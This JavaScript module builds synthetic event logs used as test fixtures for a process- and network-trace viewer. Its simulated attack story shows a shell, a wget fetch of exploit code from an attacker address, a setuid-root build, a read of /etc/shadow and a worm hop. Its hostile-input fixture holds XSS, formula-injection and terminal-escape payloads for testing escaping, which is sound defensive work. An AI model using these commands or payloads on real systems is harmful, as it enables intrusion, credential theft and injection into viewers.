// SPDX-License-Identifier: Apache-2.0
// What the pages are tested on, as event text (docs/formats/events.md): made here, so that every expected number is known.

const base_s = Date.UTC(2026, 5, 2, 18, 4, 0) / 1000;

/** Collects events of several hosts in the order of time. */
export class Story {
  events = [];
  /** `at_s`: seconds after 18:04:00. */
  add(host, at_s, event) {
    const wall_ns = BigInt(base_s) * 1000000000n + BigInt(Math.round(at_s * 1e6)) * 1000n;
    this.events.push({ wall_ns, line: { host, boot_id: host === "web-26" ? "26262626-0000-4000-8000-000000000026" : "25252525-0000-4000-8000-000000000025", boot_ns: Number(BigInt(Math.round((1000 + at_s) * 1e6))) * 1000, wall_ns: undefined, ...event } });
  }
  text() {
    const ordered = this.events.map((each, i) => ({ ...each, i })).sort((a, b) => (a.wall_ns < b.wall_ns ? -1 : a.wall_ns > b.wall_ns ? 1 : a.i - b.i));
    // wall_ns needs all its digits, which a number of JavaScript does not have.
    return ordered.map(({ wall_ns, line }) => JSON.stringify({ ...line, wall_ns: 0 }).replace('"wall_ns":0', `"wall_ns":${wall_ns}`)).join("\n") + "\n";
  }
}

const inet = (local_ip, local_port, remote_ip, remote_port) => ({ family: "inet", type: "stream", protocol: 6, local_ip, local_port, remote_ip, remote_port });

/** Walleye's example: in through apache on web-25, root by a program built there, on to web-26. */
export function twoHosts() {
  const s = new Story();
  const a = "web-25", b = "web-26";
  const fork = (host, at, parent, child) => s.add(host, at, { kind: "fork", process: parent, child_process: child });
  const exec = (host, at, process, path, args, uid, extra = {}) => s.add(host, at, { kind: "exec", process, path, object: `file:2049/${[...path].reduce((n, c) => (n * 31 + c.charCodeAt(0)) % 90000, 7) + 100}`, arguments: args, working_directory: "/var/www", credentials: { uid, euid: extra.euid ?? uid, gid: uid }, ...(extra.mode ? { mode: extra.mode } : {}) });
  const exit = (host, at, process) => s.add(host, at, { kind: "exit", process, exit_code: 0 });
  for (const [host, ip, master, worker] of [[a, "192.0.2.25", "706", "709"], [b, "192.0.2.26", "650", "657"]]) {
    s.add(host, 0, { kind: "process", process: "1", command: "systemd", path: "/usr/lib/systemd/systemd", arguments: ["/sbin/init"], baseline: true, uid: 0 });
    s.add(host, 0.001, { kind: "process", process: master, parent_process: "1", command: "apache2", path: "/usr/sbin/apache2", arguments: ["/usr/sbin/apache2", "-k", "start"], baseline: true, uid: 0 });
    s.add(host, 0.002, { kind: "process", process: worker, parent_process: master, command: "apache2", path: "/usr/sbin/apache2", arguments: ["/usr/sbin/apache2", "-k", "start"], baseline: true, uid: 33 });
    s.add(host, 0.003, { kind: "descriptor", process: worker, fd: 3, object: "socket:30", baseline: true, socket: { family: "inet", type: "stream", protocol: 6, local_ip: ip, local_port: 443, state: "listen" } });
  }
  // Ordinary visitors.
  for (let i = 0; i < 12; i++) {
    const at = 5 + i * 6, object = `socket:${100 + i}`;
    s.add(a, at, { kind: "accept", process: "709", fd: 20, object, other_fd: 3, other_object: "socket:30", socket: inet("192.0.2.25", 443, "198.51.100.23", 40000 + i) });
    s.add(a, at + 0.01, { kind: "recv", process: "709", fd: 20, object, size_bytes: 120, payload: "GET / HTTP/1.1\r\n" });
    s.add(a, at + 0.02, { kind: "send", process: "709", fd: 20, object, size_bytes: 1600, payload: "HTTP/1.1 200 OK\r\n" });
    s.add(a, at + 0.03, { kind: "close", process: "709", fd: 20 });
  }
  // In.
  s.add(a, 134, { kind: "accept", process: "709", fd: 9, object: "socket:66", other_fd: 3, other_object: "socket:30", socket: inet("192.0.2.25", 443, "203.0.113.31", 41000) });
  s.add(a, 134.1, { kind: "recv", process: "709", fd: 9, object: "socket:66", size_bytes: 2900, payload: "GET /cgi HTTP/1.0\r\nX: \u0001\u0002 exploit\r\n" });
  s.add(a, 134.2, { kind: "send", process: "709", fd: 9, object: "socket:66", size_bytes: 5600, payload: "uid=33(www-data)\n" });
  fork(a, 135, "709", "711");
  exec(a, 135.01, "711", "/bin/sh", ["sh", "-i"], 33);
  s.add(a, 135.02, { kind: "open", process: "711", path: "/dev/pts/0", object: "pty:24/3#7", fd: 0, flags: "O_RDWR" });
  s.add(a, 135.03, { kind: "dup", process: "711", fd: 0, other_fd: 1 });
  s.add(a, 135.04, { kind: "dup", process: "711", fd: 0, other_fd: 2 });
  const terminal = { rows: 24, columns: 80, echo: true, canonical: true };
  const type = (at, text) => s.add(a, at, { kind: "read", process: "711", fd: 0, object: "pty:24/3#7", size_bytes: text.length, payload: text, terminal });
  const show = (at, text) => s.add(a, at, { kind: "write", process: "711", fd: 1, object: "pty:24/3#7", size_bytes: text.length, payload: text, terminal });
  const commands = [[163, "ho\b\bwho", "717", "/usr/bin/who", "who"], [167, "wget http://203.0.113.31/p.c", "718", "/usr/bin/wget", "wget http://203.0.113.31/p.c"], [169, "gcc p.c -o p", "719", "/usr/bin/gcc", "gcc p.c -o p"]];
  let fd = 40;
  for (const [at, keys, pid, path, text] of commands) {
    show(at - 0.5, "$ ");
    type(at, keys + "\n");
    fork(a, at + 0.05, "711", pid);
    exec(a, at + 0.06, pid, path, text.split(" "), 33);
    if (pid === "718") {
      s.add(a, at + 0.1, { kind: "socket", process: pid, fd: 5, object: "socket:70", socket: { family: "inet", type: "stream", protocol: 6 } });
      s.add(a, at + 0.11, { kind: "connect", process: pid, fd: 5, object: "socket:70", socket: inet("192.0.2.25", 51000, "203.0.113.31", 80) });
      s.add(a, at + 0.12, { kind: "send", process: pid, fd: 5, object: "socket:70", size_bytes: 60, payload: "GET /p.c HTTP/1.1\r\n" });
      s.add(a, at + 0.13, { kind: "recv", process: pid, fd: 5, object: "socket:70", size_bytes: 90, payload: "HTTP/1.1 200 OK\r\n\r\nint main(){setuid(0);}" });
      s.add(a, at + 0.14, { kind: "open", process: pid, path: "/tmp/.x/p.c", object: "file:2049/501", fd: 6, flags: "O_WRONLY|O_CREAT" });
      s.add(a, at + 0.15, { kind: "write", process: pid, fd: 6, size_bytes: 22, offset_bytes: 0, payload: "int main(){setuid(0);}" });
    }
    if (pid === "719") {
      s.add(a, at + 0.1, { kind: "open", process: pid, path: "/tmp/.x/p.c", object: "file:2049/501", fd: 6, flags: "O_RDONLY" });
      s.add(a, at + 0.11, { kind: "read", process: pid, fd: 6, size_bytes: 22, offset_bytes: 0 });
      fork(a, at + 0.2, pid, "726");
      exec(a, at + 0.21, "726", "/usr/bin/ld", ["ld", "-o", "p"], 33);
      s.add(a, at + 0.25, { kind: "open", process: "726", path: "/tmp/.x/p", object: "file:2049/502", fd: fd, flags: "O_WRONLY|O_CREAT" });
      s.add(a, at + 0.26, { kind: "write", process: "726", fd: fd, size_bytes: 8000, offset_bytes: 0, payload: "\u007fELF" });
      s.add(a, at + 0.27, { kind: "write", process: "726", fd: fd, size_bytes: 16, offset_bytes: 1200000, payload: "bytes beyond 1MB" });
      exit(a, at + 0.3, "726");
    }
    exit(a, at + 0.5, pid);
  }
  show(170.5, "$ ");
  type(171, "./p\n");
  fork(a, 171.05, "711", "728");
  s.add(a, 171.06, { kind: "exec", process: "728", path: "/tmp/.x/p", object: "file:2049/502", mode: "0104755", arguments: ["./p"], working_directory: "/tmp/.x", credentials: { uid: 33, euid: 0, gid: 33 } });
  show(172, "[+] got root\r\n# ");
  fork(a, 172.5, "728", "738");
  exec(a, 172.51, "738", "/bin/cat", ["cat", "/etc/shadow"], 0);
  s.add(a, 172.52, { kind: "open", process: "738", path: "/etc/shadow", object: "file:2049/12", fd: 3, flags: "O_RDONLY" });
  s.add(a, 172.53, { kind: "read", process: "738", fd: 3, size_bytes: 900, offset_bytes: 0, payload: "root:$6$salt$hash:19000:0:99999:7:::\n" });
  exit(a, 172.6, "738");
  // On to the other host, nine times.
  fork(a, 173, "728", "740");
  exec(a, 173.01, "740", "/tmp/.x/openssl-w", ["openssl-w", "192.0.2.26"], 0);
  for (let i = 0; i < 9; i++) {
    const at = 174 + i * 0.2, port = 52000 + i;
    s.add(a, at, { kind: "socket", process: "740", fd: 10 + i, object: `socket:${200 + i}`, socket: { family: "inet", type: "stream", protocol: 6 } });
    s.add(a, at + 0.001, { kind: "connect", process: "740", fd: 10 + i, object: `socket:${200 + i}`, socket: inet("192.0.2.25", port, "192.0.2.26", 443) });
    s.add(b, at + 0.002, { kind: "accept", process: "657", fd: 10 + i, object: `socket:${300 + i}`, other_fd: 3, other_object: "socket:30", socket: inet("192.0.2.26", 443, "192.0.2.25", port) });
    s.add(a, at + 0.003, { kind: "send", process: "740", fd: 10 + i, object: `socket:${200 + i}`, size_bytes: 300, payload: "worm" });
    s.add(b, at + 0.004, { kind: "recv", process: "657", fd: 10 + i, object: `socket:${300 + i}`, size_bytes: 300, payload: "worm" });
  }
  fork(b, 176.2, "657", "658");
  exec(b, 176.21, "658", "/bin/sh", ["sh", "-c", "id"], 33);
  fork(b, 176.3, "658", "659");
  exec(b, 176.31, "659", "/usr/bin/id", ["id"], 33);
  exit(b, 176.4, "659");
  exit(b, 176.5, "658");
  s.add(a, 180, { kind: "exit", process: "740", exit_code: 0 });
  s.add(a, 181, { kind: "exit", process: "711", exit_code: 0 });
  // Something was missed, and counted.
  s.add(a, 190, { kind: "loss", loss: { loss_class: "payload", count: 41, from_boot_ns: 1189000000000, reason: "the budget for payload was used up" } });
  s.add(a, 200, { kind: "fork", process: "1", child_process: "900" });
  s.add(b, 200, { kind: "fork", process: "1", child_process: "900" });
  return s.text();
}

/** Everything that can be named is named so that a page or a terminal would obey. */
export const evil = "<img src=x onerror=alert(1)>\"'`\u202eexe\u2066\u200b\u001b]52;c;QUJD\u0007\u001b[31m\u0000\t";
export function hostile() {
  const s = new Story();
  const h = "evil<script>alert(1)</script>";
  const name = evil.replace("\u0000", "");
  s.add(h, 0, { kind: "process", process: "1", command: "init", path: "/sbin/init", arguments: ["init"], baseline: true, uid: 0 });
  s.add(h, 0.1, { kind: "process", process: "100", parent_process: "1", command: "httpd", path: "/usr/sbin/httpd", arguments: ["httpd"], baseline: true, uid: 33 });
  s.add(h, 0.2, { kind: "descriptor", process: "100", fd: 3, object: "socket:30", baseline: true, socket: { family: "inet", type: "stream", protocol: 6, local_ip: "192.0.2.66", local_port: 80, state: "listen" } });
  s.add(h, 1, { kind: "accept", process: "100", fd: 9, object: "socket:66", other_fd: 3, other_object: "socket:30", socket: inet("192.0.2.66", 80, "203.0.113.9", 4444) });
  s.add(h, 1.1, { kind: "recv", process: "100", fd: 9, object: "socket:66", size_bytes: 400, payload: "GET /" + evil });
  s.add(h, 2, { kind: "fork", process: "100", child_process: "200" });
  s.add(h, 2.1, { kind: "exec", process: "200", path: "/bin/sh", object: "file:2049/11", arguments: ["sh", "-i", evil, "=cmd|'/C calc'!A0", "javascript:alert(1)"], credentials: { uid: 33, gid: 33 } });
  s.add(h, 2.2, { kind: "open", process: "200", path: "/dev/pts/1", object: "pty:24/4#8", fd: 0, flags: "O_RDWR" });
  const terminal = { rows: 24, columns: 80, echo: true, canonical: true };
  s.add(h, 3, { kind: "read", process: "200", fd: 0, object: "pty:24/4#8", size_bytes: 40, payload: "echo " + name + "\n", terminal });
  s.add(h, 3.1, { kind: "write", process: "200", fd: 0, object: "pty:24/4#8", size_bytes: 60, payload: "\u001b]0;title\u0007\u001b]8;;http://evil.example/\u0007click\u001b]8;;\u0007 shown\r\n", terminal });
  s.add(h, 3.5, { kind: "exec", process: "200", path: "/tmp/" + name.replaceAll("/", ""), object: "file:2049/12", mode: "0104755", arguments: ["p", "A".repeat(100000) + evil], credentials: { uid: 33, euid: 0, gid: 33 } });
  s.add(h, 4, { kind: "open", process: "200", path: "/tmp/\\xff\\xfe" + name.replaceAll("/", ""), object: "file:2049/13", fd: 7, flags: "O_WRONLY|O_CREAT" });
  s.add(h, 4.1, { kind: "write", process: "200", fd: 7, size_bytes: 20, offset_bytes: 0, payload: "<script>alert(2)</script>" });
  s.add(h, 5, { kind: "connect", process: "200", fd: 8, object: "socket:70", socket: inet("192.0.2.66", 50000, "203.0.113.9", 31337) });
  s.add(h, 5.1, { kind: "send", process: "200", fd: 8, object: "socket:70", size_bytes: 5, payload: "hello" });
  s.add(h, 9, { kind: "exit", process: "200", exit_code: 0 });
  return s.text();
}

/** A build that forks `n` processes, and one among them that did something. */
export function many(n) {
  const s = new Story();
  const h = "big";
  s.add(h, 0, { kind: "process", process: "1", command: "systemd", path: "/sbin/init", arguments: ["init"], baseline: true, uid: 0 });
  s.add(h, 0.01, { kind: "process", process: "100", parent_process: "1", command: "sshd", path: "/usr/sbin/sshd", arguments: ["sshd"], baseline: true, uid: 0 });
  s.add(h, 0.02, { kind: "descriptor", process: "100", fd: 3, object: "socket:30", baseline: true, socket: { family: "inet", type: "stream", protocol: 6, local_ip: "192.0.2.77", local_port: 22, state: "listen" } });
  s.add(h, 1, { kind: "accept", process: "100", fd: 9, object: "socket:66", other_fd: 3, other_object: "socket:30", socket: inet("192.0.2.77", 22, "203.0.113.5", 4444) });
  s.add(h, 1.1, { kind: "recv", process: "100", fd: 9, object: "socket:66", size_bytes: 40, payload: "SSH-2.0-x" });
  s.add(h, 2, { kind: "fork", process: "100", child_process: "101" });
  s.add(h, 2.1, { kind: "exec", process: "101", path: "/bin/bash", object: "file:2049/11", arguments: ["bash"], credentials: { uid: 1000, gid: 1000 } });
  let pid = 1000, at = 3;
  for (let i = 0; pid < 1000 + n; i++) {
    const make = String(pid++);
    s.add(h, (at += 0.01), { kind: "fork", process: "101", child_process: make });
    s.add(h, (at += 0.001), { kind: "exec", process: make, path: "/usr/bin/make", object: "file:2049/20", arguments: ["make", String(i)], credentials: { uid: 1000, gid: 1000 } });
    for (let k = 0; k < 9 && pid < 1000 + n; k++) {
      const cc = String(pid++);
      s.add(h, (at += 0.001), { kind: "fork", process: make, child_process: cc });
      s.add(h, (at += 0.001), { kind: "exec", process: cc, path: "/usr/bin/cc1", object: "file:2049/21", arguments: ["cc1", `f${k}.c`], credentials: { uid: 1000, gid: 1000 } });
      s.add(h, (at += 0.001), { kind: "exit", process: cc, exit_code: 0 });
    }
    s.add(h, (at += 0.001), { kind: "exit", process: make, exit_code: 0 });
  }
  return s.text();
}
